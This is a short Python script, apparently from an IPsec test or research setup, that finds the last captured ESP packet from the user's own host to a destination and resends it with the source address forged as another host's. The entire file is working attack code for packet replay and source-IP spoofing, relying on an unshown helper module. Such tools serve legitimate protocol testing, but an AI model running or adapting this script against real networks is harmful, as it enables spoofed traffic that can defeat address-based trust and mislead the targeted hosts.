"""Send the last captured ESP packet from OWN to DESTINATION once more, as if
it came from FORGED: a valid packet of one's own SA under another's address.

usage: attack_forge.py CAPTURE OWN DESTINATION FORGED
"""

import sys

import packets


def main(capture, own, destination, forged):
    sealed = None
    for frame in packets.pcap_frames(capture):
        found = packets.esp_of(frame)
        if found and found[:2] == (own, destination):
            sealed = found[2:]
    if sealed is None:
        sys.exit("no ESP from %s in %s" % (own, capture))
    packets.send_ip(packets.ip_esp(forged, destination, *sealed), destination)


main(*sys.argv[1:])
